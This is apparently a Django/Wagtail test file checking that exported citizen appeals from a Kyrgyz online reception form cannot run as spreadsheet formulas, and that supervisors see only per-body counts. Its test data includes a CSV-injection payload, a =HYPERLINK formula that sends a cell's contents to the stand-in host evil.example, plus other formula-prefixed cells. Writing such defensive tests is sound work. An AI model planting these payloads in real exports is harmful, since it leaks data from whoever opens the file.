"""Appeals to the online reception in the admin: the body's staff export them formula-safe;
supervisors get how many each body received, never what they say."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from achyk.bodies.services import grant_supervisor_reading
from achyk.bodies.tests.factories import HOSTILE
from achyk.content.models import FeedbackFormField, FeedbackFormPage

from .factories import section

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2;"Көрүңүз")'
HOSTILE_ANSWERS = [HYPERLINK, "+996 555 000 000", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
PLAIN = f"Жолдун чуңкурлары {HOSTILE}"


def reception(body, *appeals):
    """The body's Kyrgyz online reception with a name and a message field, and `appeals`."""
    page = section(body, "ky", FeedbackFormPage)
    for label, clean_name, field_type in (
        ("Атыңыз", "name", "singleline"),
        ("Кайрылуу", "message", "multiline"),
    ):
        FeedbackFormField.objects.create(
            page=page, label=label, clean_name=clean_name, field_type=field_type
        )
    for name, message in appeals:
        FormSubmission.objects.create(page=page, form_data={"name": name, "message": message})
    return page


@pytest.fixture
def supervisor(platform):
    user = get_user_model().objects.create_user(username="inspector", password="x-Бурана-42")
    user.groups.add(grant_supervisor_reading())
    return user


def exported(client, page, export_format) -> bytes:
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_exported_csv_of_appeals_never_holds_a_formula(client, body_a, editor_a):
    page = reception(body_a, *[(answer, PLAIN) for answer in HOSTILE_ANSWERS])
    client.force_login(editor_a)
    content = exported(client, page, "csv").decode("utf-8").lstrip("\ufeff")
    header, *rows = csv.reader(io.StringIO(content, newline=""))
    rows = [dict(zip(header, row, strict=True)) for row in rows]
    assert sorted(row["Атыңыз"] for row in rows) == sorted("'" + a for a in HOSTILE_ANSWERS)
    assert {row["Кайрылуу"] for row in rows} == {PLAIN}


def test_exported_workbook_of_appeals_keeps_their_text_as_text(client, body_a, editor_a):
    page = reception(body_a, *[(answer, PLAIN) for answer in HOSTILE_ANSWERS])
    client.force_login(editor_a)
    sheet = load_workbook(io.BytesIO(exported(client, page, "xlsx"))).active
    header, *rows = list(sheet.iter_rows())
    column = [cell.value for cell in header].index("Атыңыз")
    cells = [row[column] for row in rows]
    assert {cell.data_type for cell in cells} == {"s"}  # string cells: never run as formulas
    # The workbook's XML reads a carriage return back as a line feed.
    expected = [answer.replace("\r", "\n") for answer in HOSTILE_ANSWERS]
    assert sorted(cell.value for cell in cells) == sorted(expected)


@pytest.mark.parametrize("query", [{}, {"export": "csv"}, {"export": "xlsx"}])
def test_supervisor_is_refused_the_appeals_of_a_body(client, body_a, supervisor, query):
    page = reception(body_a, ("Айгүл Өмүрова", "Көчө жарыгы"))
    client.force_login(supervisor)
    for name in ("wagtailforms:list_submissions", "wagtailforms:list_submissions_results"):
        response = client.get(reverse(name, args=[page.pk]), query)
        assert response.status_code == 403
        assert not response.streaming
        html = response.content.decode()
        assert "Уруксат жок" in html  # the admin's forbidden page: "Not allowed"
        assert "Айгүл" not in html and "Көчө жарыгы" not in html


def test_supervisor_reads_how_many_appeals_each_body_received(client, body_a, body_b, supervisor):
    reception(body_a, ("Айгүл Өмүрова", "Көчө жарыгы"), ("Бакыт", "Суу"), ("Нурлан", "Жол"))
    ru = section(body_a, "ru", FeedbackFormPage)
    FormSubmission.objects.create(page=ru, form_data={"message": "Вода"})
    client.force_login(supervisor)
    response = client.get(reverse("wagtailforms:index"))
    assert response.status_code == 200
    html = response.content.decode()
    assert _row(body_a, 4) in html and _row(body_b, 0) in html
    for text in ("Айгүл", "Көчө жарыгы", "Вода"):
        assert text not in html


def _row(body, count):
    return f'<th scope="row">{escape(body.name)}</th><td>{count}</td>'


def test_body_staff_keep_wagtail_s_forms_listing_and_their_appeals(client, body_a, editor_a):
    page = reception(body_a, ("Айгүл Өмүрова", "Көчө жарыгы"))
    client.force_login(editor_a)
    listing = client.get(reverse("wagtailforms:index")).content.decode()
    assert reverse("wagtailforms:list_submissions", args=[page.pk]) in listing
    submissions = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]))
    assert submissions.status_code == 200 and "Көчө жарыгы" in submissions.content.decode()
